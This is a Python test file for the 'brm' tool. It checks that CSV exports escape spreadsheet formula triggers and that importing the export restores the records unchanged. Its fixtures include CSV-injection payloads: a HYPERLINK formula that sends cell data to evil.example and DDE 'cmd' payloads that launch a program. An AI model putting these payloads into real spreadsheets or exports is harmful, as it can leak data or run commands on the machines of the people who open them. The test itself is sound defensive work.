"""Output that becomes markup elsewhere: a spreadsheet opening brm's CSV, the pull-request
comment of ``brm diff``, the CI job summary and log, the writers' page. Records and file
names written to fight back stay text in each, and the CSV round trip changes nothing."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pytest

from brm_build.cli import main
from brm_build.repository import load_repository

from ..casebuilder import build
from ..conftest import settings_for

TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
"""What a spreadsheet cell begins with to be a formula (OWASP, "CSV Injection")."""
FORMULAS = {
    "name": '=HYPERLINK("https://evil.example/?"&A1,"Open")',
    "description": "+1+cmd|' /C calc'!A0",
    "support_hours": "@SUM(1+1)*cmd|' /C calc'!A0",
}
"""Service fields that a spreadsheet would run as formulas."""
QUOTED = {"name": "'=already quoted", "description": "''", "support_hours": "'plain"}
"""Values that begin with the quote itself: they must come back as they were."""


def _service(fields: dict[str, str], title: str) -> str:
    lines = [f"{key}: {json.dumps(value)}" for key, value in fields.items()]
    owner = (
        f"owner:\n  name: Ola Owner\n  email: ola@meridian.example\n  title: {json.dumps(title)}"
    )
    return "\n".join([*lines, owner, "status: live"]) + "\n"


def test_csv_cells_are_never_formulas_and_import_restores_them(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    services = {"formulas": _service(FORMULAS, "-2+3"), "quoted": _service(QUOTED, "-4.5")}
    files = {f"records/services/{sid}.yaml": text for sid, text in services.items()}
    root = build(tmp_path / "repo", files)
    out = tmp_path / "out"
    assert main(["export", "--root", str(root), "--format", "csv", "--out", str(out)]) == 0
    sheet = (out / "services.csv").read_text(encoding="utf-8")
    cells = [c for row in csv.reader(io.StringIO(sheet[1:])) for c in row]
    assert [c for c in cells if c.startswith(TRIGGERS) and c != "-4.5"] == []
    assert "'=HYPERLINK" in sheet and "'-2+3" in sheet and ",-4.5," in sheet

    fresh = build(tmp_path / "fresh", {})
    (fresh / "records/services/erp.yaml").unlink()
    capsys.readouterr()
    assert main(["import", "services", str(out / "services.csv"), "--root", str(fresh)]) == 0
    before, _ = load_repository(settings_for(root))
    after, findings = load_repository(settings_for(fresh))
    assert findings == []
    for sid in ("formulas", "quoted", "erp"):
        assert after.services[sid].record == before.services[sid].record, sid
